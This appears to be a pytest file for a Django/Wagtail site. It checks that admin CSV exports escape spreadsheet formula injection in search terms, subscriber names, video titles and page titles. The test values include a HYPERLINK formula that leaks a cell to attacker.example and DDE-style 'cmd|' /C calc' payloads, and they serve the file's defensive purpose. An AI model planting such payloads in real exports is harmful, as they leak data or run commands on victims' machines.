"""What anyone types reaches the admin's CSV exports as text, never as a spreadsheet formula:
every cell that begins with = + - @, a tab or a carriage return is escaped."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.contrib.search_promotions.models import Query

from newsletters.models import Subscriber
from tests.admin_login import sign_in_to_admin
from tests.factories import StoryFactory, VideoFactory, publish
from users.spreadsheets import escape_formula
from videos.models import Download

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Open")'


@pytest.fixture
def administrator(admin_user, client):
    return sign_in_to_admin(client, admin_user)


def exported_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells(rows):
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_beginning_with_a_formula_trigger_is_made_text(trigger):
    assert escape_formula(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("cell", ["Sweden", "a=b", "", " =1", 42, -3, None])
def test_other_cells_are_left_as_they_are(cell):
    assert escape_formula(cell) == cell


def test_an_anonymous_search_is_text_in_both_search_reports(db, client, administrator):
    reader = client.__class__()
    for formula in (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"):
        assert reader.get("/en/search/", {"q": formula}).status_code == 200
    stored = list(Query.objects.values_list("query_string", flat=True))
    assert any(query.startswith("=hyperlink(") for query in stored)

    for report in ("wagtailsearchpromotions:search_terms", "search_no_result_report"):
        exported = cells(exported_rows(administrator.get(reverse(report) + "?export=csv")))

        searched = [cell for cell in exported if cell.lstrip("'") in stored]
        assert len(searched) == 4, report
        assert all(cell.startswith("'") for cell in searched), report


def test_a_subscribers_name_is_text_in_the_subscriber_export(db, client, administrator):
    reader = client.__class__()
    reader.post("/en/newsletter/", {"email": "=1+1@example.org", "name": FORMULA, "language": "en"})
    assert Subscriber.objects.filter(name=FORMULA).exists()

    exported = cells(exported_rows(administrator.get("/admin/newsletters/subscribers/?export=csv")))

    assert "'" + FORMULA in exported
    assert "'=1+1@example.org" in exported
    assert FORMULA not in exported


def test_a_video_title_is_text_in_the_download_report(db, administrator, admin_user):
    video = VideoFactory(title="-1+cmd|' /C calc'!A0")
    Download.objects.create(video=video, user=admin_user, size=10)

    exported = cells(exported_rows(administrator.get("/admin/reports/video-downloads/?export=csv")))

    assert "'-1+cmd|' /C calc'!A0" in exported


def test_a_page_title_is_text_in_wagtails_own_reports(db, news_index, administrator):
    publish(StoryFactory(title="@SUM(1+1)*cmd", parent=news_index))

    exported = cells(
        exported_rows(
            administrator.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
        )
    )

    assert "'@SUM(1+1)*cmd" in exported
